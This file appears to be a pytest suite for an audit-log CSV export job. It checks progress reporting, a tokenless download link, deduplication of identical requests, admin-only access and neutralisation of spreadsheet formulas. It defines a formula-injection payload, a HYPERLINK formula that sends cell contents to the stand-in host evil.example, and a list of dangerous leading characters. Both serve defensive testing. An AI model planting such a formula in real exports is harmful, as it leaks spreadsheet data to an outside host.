"""The audit CSV export as a background job on the live runtime: 202, progress, a time-limited link, the
one CSV writer's formula guard, one run per identical request (docs/api.md, docs/audit.md)."""

from __future__ import annotations

import csv
import io
import time
from datetime import UTC, datetime
from types import SimpleNamespace
from typing import Any

import requests

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")'


def wait_for_export(call: Any, job_id: str, timeout_s: float = 180) -> dict[str, Any]:
    deadline = time.monotonic() + timeout_s
    while True:
        r = call("GET", f"/audit/exports/{job_id}", "admin")
        assert r.status_code == 200, r.text
        job = r.json()
        if job["status"] in ("succeeded", "failed") or time.monotonic() > deadline:
            return job
        time.sleep(0.5)


def test_failed_sign_in_typed_as_a_formula_is_neutralised_in_the_exported_csv(
        call, live_runtime: SimpleNamespace) -> None:  # type: ignore[no-untyped-def]
    """GIVEN a failed sign-in whose e-mail is a spreadsheet formula (stored as the audit entity id)
    WHEN an admin exports today's audit trail (POST /audit/exports → 202, then GET …/{job_id})
    THEN the job reports progress and ends with a download link that works without a token, the CSV
    holds the formula as text (leading quote) and no cell starts a formula; the export is audited."""
    r = call("POST", "/auth/login", json={"email": FORMULA, "password": "whatever"})
    assert r.status_code == 401
    today = datetime.now(UTC).date().isoformat()
    started = time.monotonic()
    r = call("POST", "/audit/exports", "admin", json={"from": today, "to": today})
    assert r.status_code == 202, r.text
    job = r.json()
    assert job["status"] in ("queued", "running") and job["params"] == {"from": today, "to": today}
    assert "download_url" not in job or job["download_url"] is None

    done = wait_for_export(call, job["id"])
    seconds = time.monotonic() - started
    assert done["status"] == "succeeded", done
    assert done["percent"] == 100 and done["rows_done"] > 0 and not done["truncated"]
    assert done["file_name"] == f"audit-{today}-to-{today}.csv"
    print(f"\naudit export: {done['rows_done']} rows in {seconds:.1f} s "
          f"({done['rows_done'] / seconds:.0f} rows/s, {done['file_bytes']} bytes)")

    download = requests.get(done["download_url"], timeout=60)  # no Authorization: the link is the grant
    assert download.status_code == 200
    assert "attachment" in download.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(download.content.decode("utf-8"), newline="")))
    assert rows[0][:4] == ["occurred_at", "action", "entity_type", "entity_id"]
    assert len(rows) - 1 == done["rows_done"]
    failed = [row for row in rows[1:] if row[2] == "session" and row[3] == "'" + FORMULA.lower()]
    assert failed, "the failed sign-in is exported, neutralised"
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]

    exports = call("GET", "/audit", "admin", params={"entity_type": "audit", "entity_id": "EXPORT"}).json()
    mine = [e for e in exports["items"] if e["extra"].get("job_id") == job["id"]]
    assert len(mine) == 1 and mine[0]["action"] == "BULK_READ"
    assert mine[0]["extra"]["row_count"] == done["rows_done"] and mine[0]["channel"] == "job"


def test_two_identical_export_requests_run_once_and_only_admins_export(call) -> None:  # type: ignore[no-untyped-def]
    """GIVEN an export request still running WHEN the same admin sends the identical request THEN the same
    job comes back (deduplicated), nothing runs twice; other roles get 403; a bad range is a 400 naming
    `to`; an unknown job is a 404."""
    body = {"from": "2000-01-01", "to": "2000-12-31"}  # a year of empty days: 366 reads, over a second
    first = call("POST", "/audit/exports", "admin", json=body)
    second = call("POST", "/audit/exports", "admin", json=body)
    assert first.status_code == second.status_code == 202, (first.text, second.text)
    assert second.json()["id"] == first.json()["id"] and second.json()["deduplicated"] is True
    done = wait_for_export(call, first.json()["id"])
    assert done["status"] == "succeeded" and done["rows_done"] == 0

    for role in ("officer", "dispatcher", "staff"):
        assert call("POST", "/audit/exports", role, json=body).status_code == 403
        assert call("GET", f"/audit/exports/{first.json()['id']}", role).status_code == 403
    r = call("POST", "/audit/exports", "admin", json={"from": "2026-02-02", "to": "2026-02-01"})
    assert r.status_code == 400 and r.json()["error"]["fields"][0]["name"] == "to"
    r = call("POST", "/audit/exports", "admin", json={"from": "2026-02-02"})
    assert r.status_code == 400 and r.json()["error"]["fields"][0]["name"] == "to"
    assert call("GET", "/audit/exports/01NOSUCHJOB000000000000000", "admin").status_code == 404
